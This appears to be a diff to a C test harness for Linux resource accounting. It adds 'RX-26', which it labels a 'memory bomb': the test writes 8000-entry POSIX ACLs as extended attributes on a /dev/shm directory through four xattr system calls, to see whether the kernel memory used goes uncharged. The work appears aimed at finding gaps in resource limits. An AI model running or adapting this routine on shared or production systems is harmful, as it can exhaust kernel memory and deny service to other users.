@@ -18,12 +18,15 @@
 #include <sys/prctl.h>
 #include <sys/resource.h>
 #include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/xattr.h>
 
 #define MIB               (1L << 20)
 #define IPV6_FLOW_MANAGER 32 /* IPV6_FLOWLABEL_MGR */
 #define PROCESSES         15
 #define GROUPS_EACH       119
 #define SOURCES_EACH      64
+#define ACL_ENTRIES       8000
 
 static char block[60000];
 
@@ -328,6 +331,53 @@ static void rx_25(struct run *r)
 		note(r, ESCAPED, "no limit up to %ld filters", got[0]);
 }
 
+/* One list in which the same user stands again and again. Return: its bytes. */
+static size_t make_acl(char *to)
+{
+	struct entry {
+		uint16_t tag, access;
+		uint32_t id;
+	} *e = (struct entry *)(to + sizeof(uint32_t));
+	static const uint16_t last[] = { 0x04 /* group */, 0x10 /* mask */, 0x20 /* others */ };
+
+	memcpy(to, &(uint32_t){ 2 /* version */ }, sizeof(uint32_t));
+	*e++ = (struct entry){ 0x01 /* owner */, 7, UINT32_MAX };
+	for (int i = 0; i < ACL_ENTRIES - 4; i++)
+		*e++ = (struct entry){ 0x02 /* user */, 7, 0 };
+	for (size_t i = 0; i < sizeof(last) / sizeof(last[0]); i++)
+		*e++ = (struct entry){ last[i], 7, UINT32_MAX };
+	return (size_t)((char *)e - to);
+}
+
+/* What waits to be refused is one file in memory; those who come through may have as many as there are inodes. */
+static void rx_26(struct run *r)
+{
+	static char acl[sizeof(uint32_t) + 8L * ACL_ENTRIES] __attribute__((aligned(8)));
+	const char *kinds[] = { "system.posix_acl_access", "system.posix_acl_default" };
+	const size_t n = make_acl(acl);
+	const struct {
+		uint64_t value;
+		uint32_t size, flags;
+	} at = { (uint64_t)(uintptr_t)acl, (uint32_t)n, 0 };
+	char path[64];
+
+	(void)snprintf(path, sizeof(path), "/dev/shm/acl-%d", getpid());
+	if (mkdir(path, 0700) != 0)
+		return;
+	int fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+
+	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++) {
+		attempt(r, "setxattr", setxattr(path, kinds[i], acl, n, 0));
+		attempt(r, "lsetxattr", lsetxattr(path, kinds[i], acl, n, 0));
+		attempt(r, "fsetxattr", fsetxattr(fd, kinds[i], acl, n, 0));
+		attempt(r, "setxattrat",
+			syscall(463L /* setxattrat */, AT_FDCWD, path, 0L, kinds[i], &at,
+				sizeof(at)));
+	}
+	(void)close(fd);
+	(void)rmdir(path);
+}
+
 const struct attack attacks_uncharged[] = {
 	{ "RX-02K", "memory bomb: answers of netlink that nobody reads", rx_02k },
 	{ "RX-02L", "memory bomb: answers to pings that nobody reads", rx_02l },
@@ -336,5 +386,6 @@ const struct attack attacks_uncharged[] = {
 	{ "RX-23", "takes the machine's IPv6 flow labels", rx_23 },
 	{ "RX-24", "takes the machine's room for compiled filters: of sockets", rx_24 },
 	{ "RX-25", "takes the machine's room for compiled filters: of system calls", rx_25 },
+	{ "RX-26", "memory bomb: access lists of files in memory", rx_26 },
 	{ NULL, NULL, NULL },
 };
